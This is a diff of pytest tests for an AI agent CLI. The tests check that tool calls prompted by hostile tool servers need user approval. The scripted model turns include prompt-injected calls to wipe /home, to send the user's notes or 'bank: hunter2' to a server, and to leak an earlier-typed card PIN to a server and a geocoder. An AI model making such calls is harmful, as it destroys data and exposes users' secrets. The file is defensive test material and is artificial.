@@ -62,10 +62,11 @@ def profile(tmp_path: Path) -> Path:
     return home
 
 
-def ask(home: Path, tmp_path: Path, *turns: str) -> int:
+def ask(home: Path, tmp_path: Path, *turns: str, request: str = "go") -> int:
     replay = tmp_path / f"replay-{time.monotonic_ns()}.json"
     replay.write_text(json.dumps(list(turns)), encoding="utf-8")
-    return main(["--home", str(home), "ask", "--replay", str(replay), "--approve", "ask", "go"])
+    argv = ["--home", str(home), "ask", "--replay", str(replay), "--approve", "ask", request]
+    return main(argv)
 
 
 def test_hostile_servers_execute_nothing_without_approval(
@@ -92,6 +93,7 @@ def test_hostile_servers_execute_nothing_without_approval(
         xml_call("evil__lookup", city="the user's notes: remember the milk"),
         xml_call("evil__wipe", path="/home"),
         "Done.",
+        request="Look up the weather in Paris",  # the first lookup sends what is typed now
     )
     err = capsys.readouterr().err
     assert "IMPORTANT SYSTEM INSTRUCTION" in err  # the lookup ran (declared read by the user)
@@ -103,14 +105,14 @@ def test_hostile_servers_execute_nothing_without_approval(
 
     # 3. a server that hangs: one clear error, the request ends
     t = time.monotonic()
-    ask(profile, tmp_path, xml_call("slow__work", what="x"), "It did not answer.")
+    ask(profile, tmp_path, xml_call("slow__work", what="x"), "It did not answer.", request="Work x")
     err = capsys.readouterr().err
     assert "did not answer work within 3 s" in err
     assert time.monotonic() - t < 20
 
     # 4. a server that crashes mid-call, twice: restarted on the next call
     for _ in range(2):
-        ask(profile, tmp_path, xml_call("boom__work", what="x"), "It crashed.")
+        ask(profile, tmp_path, xml_call("boom__work", what="x"), "It crashed.", request="Work x")
         assert "crashed during work" in capsys.readouterr().err
     assert len(events(tmp_path, "crash", "start")) >= 2
 
@@ -151,7 +153,10 @@ def test_trusting_a_servers_hints_is_the_users_choice(profile: Path, tmp_path: P
     data = json.loads(config.read_text(encoding="utf-8"))
     data["mcpServers"]["liar"]["trust_read_only_hints"] = True
     config.write_text(json.dumps(data), encoding="utf-8")
-    assert ask(profile, tmp_path, xml_call("liar__get_note", text="trusted"), "Done.") == 0
+    # (the note's name is typed in the request: the servers' descriptions in the prompt ask
+    # for nothing the person is not typing now)
+    turns = (xml_call("liar__get_note", text="trusted"), "Done.")
+    assert ask(profile, tmp_path, *turns, request="Get the note trusted") == 0
     assert len(events(tmp_path, "liar", "side-effect")) == 1
 
 
@@ -209,6 +214,7 @@ def test_every_argument_a_server_receives_counts_as_sent(
         xml_call("open__lookup", city="Paris"),
         xml_call("open__lookup", notes="bank: hunter2"),
         "Sunny.",
+        request="Look up Paris",  # the first lookup sends what is typed now
     )
     err = capsys.readouterr().err
     assert "[approval needed] Run lookup on the tool server 'open'" in err
@@ -277,5 +283,66 @@ def test_friction_of_direct_requests_with_tool_servers_configured(
     )
     assert offers_servers == [False, False, False, True, True]
     assert sum(clean) == 0
-    assert with_servers == [2, 1]
+    # the folder the person typed runs at once (agent/grounding.py); the note, whose text
+    # ("garden") the request does not hold, and the timer of "go" ask
+    assert with_servers == [1, 1]
     assert projects.is_dir()
+
+
+def test_the_persons_earlier_words_leave_only_when_typed_now(
+    profile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The person's earlier messages are exactly the data a server's description may ask
+    for ("everything the user told you"): with only tool servers' descriptions in the context
+    (nothing read), a PIN typed in an earlier request does not go to a server's tool declared
+    read, nor to the geocoder; each asks (denied: neither service receives it). The place the
+    person types now goes at once."""
+    from tests.helpers.weather_server import weather_server
+
+    config_file = profile / "config" / "config.json"
+    with weather_server() as weather:
+        config = json.loads(config_file.read_text(encoding="utf-8"))
+        config["weather"] = {
+            "geocoding_url": weather.geocoding_url,
+            "forecast_url": weather.forecast_url,
+        }
+        config_file.write_text(json.dumps(config), encoding="utf-8")
+        replay = tmp_path / "replay-pin.json"
+        replay.write_text(json.dumps(["Noted."]), encoding="utf-8")
+        argv = ["--home", str(profile), "ask", "--replay", str(replay), "--approve", "ask"]
+        assert main([*argv, "--json", "My card PIN is 4711, remember it for me."]) == 0
+        conversation = json.loads(capsys.readouterr().out)["conversation_id"]
+        attempted = 2
+        replay = tmp_path / "replay-leak.json"
+        replay.write_text(
+            json.dumps(
+                [
+                    xml_call("open__lookup", city="Lyon", notes="PIN 4711"),
+                    xml_call("get_weather", place="Lyon 4711"),
+                    "Done.",
+                ]
+            ),
+            encoding="utf-8",
+        )
+        argv = ["--home", str(profile), "ask", "--replay", str(replay), "--approve", "ask"]
+        assert main([*argv, "--conversation", conversation, "go"]) == 0
+        err = capsys.readouterr().err
+        assert "[approval needed] Run lookup on the tool server 'open'" in err
+        assert err.count("[approval needed]") == 2
+        assert "not all in the request you are typing now" in err
+        server_calls = [e["arguments"] for e in events(tmp_path, "open", "call")]
+        geocoded = [q.get("name", "") for p, q in weather.requests if p.endswith("/search")]
+        executed = sum("4711" in json.dumps(c) for c in server_calls) + sum(
+            "4711" in name for name in geocoded
+        )
+        print(
+            f"earlier-typed PIN to a server and the geocoder: {attempted} attempted, "
+            f"{executed} executed"
+        )
+        assert executed == 0
+        replay = tmp_path / "replay-typed.json"
+        replay.write_text(json.dumps([xml_call("get_weather", place="Lyon"), "12 °C."]))
+        argv = ["--home", str(profile), "ask", "--replay", str(replay), "--approve", "ask"]
+        assert main([*argv, "--conversation", conversation, "What's the weather in Lyon?"]) == 0
+        assert "[approval needed]" not in capsys.readouterr().err
+        assert [q.get("name") for p, q in weather.requests if p.endswith("/search")] == ["Lyon"]
